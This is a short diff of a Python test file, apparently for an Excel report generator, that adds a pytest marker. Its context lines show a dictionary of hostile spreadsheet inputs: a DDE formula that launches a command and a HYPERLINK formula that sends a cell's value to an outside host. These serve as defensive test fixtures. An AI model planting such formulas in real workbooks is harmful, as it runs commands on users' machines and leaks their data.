@@ -32,6 +32,8 @@ from reports.excel.yearly import year_book
 from tests.factories import MAY
 from tests.workbook_rules import faults_of
 
+pytestmark = pytest.mark.bar("R14")
+
 HOSTILE = {
     "formula": "=cmd|' /C calc'!A0",
     "link": '=HYPERLINK("http://x/?"&A1,"ver")',
